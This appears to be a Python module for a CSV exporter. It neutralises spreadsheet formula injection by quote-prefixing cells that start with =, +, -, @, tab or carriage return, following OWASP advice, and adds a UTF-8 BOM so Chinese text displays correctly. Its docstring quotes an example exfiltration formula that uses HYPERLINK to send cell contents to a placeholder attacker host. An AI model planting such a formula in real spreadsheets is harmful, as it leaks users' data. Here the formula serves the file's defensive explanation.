"""The one way the hall writes CSV: spreadsheet-safe cells, UTF-8 with a BOM (so Excel reads Chinese).

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to
Excel and LibreOffice (`=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")` in a department
name would send the sheet away); as OWASP recommends, such a cell is prefixed with a single
quote, which the spreadsheet shows as text. Numbers are written as numbers: a negative figure
(`-3`) is data of type int or float, never text, so it stays a number a sheet can sum.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | None


def cell(value: Cell) -> str | int | float:
    """A cell as written: None empty, numbers as they are, text neutralized when a spreadsheet would run it."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return value
    text = f"'{value}" if value.startswith(_FORMULA_STARTS) else value
    # a bare CR is not quoted by the csv module when rows end in LF, and would split the row for a reader
    return text.replace("\r\n", "\n").replace("\r", "\n")


def to_csv(rows: Iterable[Sequence[Cell]]) -> bytes:
    """Rows (the first is the header) as CSV bytes, every cell through `cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([cell(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
